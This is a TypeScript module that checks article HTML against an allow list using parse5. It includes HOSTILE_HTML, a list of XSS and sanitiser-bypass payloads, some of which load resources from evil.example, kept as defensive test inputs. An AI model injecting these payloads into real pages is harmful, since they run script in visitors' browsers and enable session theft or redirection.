import { html, parse, parseFragment, serialize } from 'parse5';
import type { DefaultTreeAdapterTypes } from 'parse5';

/** Marks that have got past sanitisers and into pages: each is a line of an article. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt >',
  '<script\n>alert(1)</script\n>',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`/onerror=alert(1)//',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))" id="location">words</p>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="java&#x09;script&colon;alert(1)">here</a>',
  '<a href=" &#14;  javascript:alert(1)">here</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>',
  '<a href="vbscript:msgbox(1)" ping="https://evil.example">here</a>',
  '[here](javascript:alert(1)) <javascript:alert(1)> ![x](data:text/html,<script>)',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1em>here</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title></title><base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><summary>x</summary>',
  '<a name="getElementById"></a><img name="cookie"><form id="body"></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62; &ltscript&gtalert(1)',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<? foo="><script>alert(1)</script>">',
  '<!doctype html><plaintext>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p <script>alert(1)</script>',
  '"><script>alert(1)</script>',
  `'"--></style></script><script>alert(1)</script>`,
  '</article></body></html><script>alert(1)</script>',
  '<p id="</p><img src=x onerror=alert(1)>',
  '＜script＞alert(1)＜/script＞ <\u200bscript>alert(1)</script>',
];

const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  h1: [],
  h2: ['id'],
  p: ['id'],
  span: ['class'],
  time: ['datetime'],
};

/** The frame around an article's own page, by element. */
const FRAME: Readonly<Record<string, readonly string[]>> = {
  html: ['lang'],
  head: [],
  body: [],
  article: [],
  meta: ['charset', 'name', 'content'],
  title: [],
  style: [],
  link: ['rel', 'href', 'type'],
  script: ['type'],
};

type Node = DefaultTreeAdapterTypes.Node;

function* elementsOf(node: Node): Generator<DefaultTreeAdapterTypes.Element> {
  if (!('childNodes' in node)) return;
  for (const child of node.childNodes) {
    if ('tagName' in child) yield child;
    yield* elementsOf(child);
  }
}

const describe = ({ tagName, attrs, namespaceURI }: DefaultTreeAdapterTypes.Element) =>
  `${namespaceURI}:${tagName} ${attrs.map(({ name, value }) => `${name}=${value}`).join(' ')}`;

function foreignIn(tree: Node, allowed: Readonly<Record<string, readonly string[]>>): string[] {
  const foreign = [...elementsOf(tree)].filter(
    ({ tagName, attrs, namespaceURI }) =>
      namespaceURI !== html.NS.HTML ||
      !Object.hasOwn(allowed, tagName) ||
      attrs.some(
        ({ name, value }) => !allowed[tagName]?.includes(name) || /script:|data:/i.test(value),
      ),
  );
  return foreign.map(describe);
}

/**
 * What a browser would find in an article's HTML that is not of an article: elements, attributes, and what
 * becomes of it when it is written and read again.
 */
export function foreignInFragment(text: string): string[] {
  const tree = parseFragment(text);
  return [...foreignIn(tree, ATTRIBUTES), ...foreignIn(parseFragment(serialize(tree)), ATTRIBUTES)];
}

/** The same of an article's whole page, which has one script: JSON-LD. */
export function foreignInPage(text: string): string[] {
  const tree = parse(text);
  const scripts = [...elementsOf(tree)].filter(({ tagName }) => tagName === 'script');
  const types = scripts.map(({ attrs }) => attrs.map(({ value }) => value).join());
  return [
    ...foreignIn(tree, { ...ATTRIBUTES, ...FRAME }),
    ...(types.join() === 'application/ld+json' ? [] : [`scripts: ${types.join(' ')}`]),
  ];
}
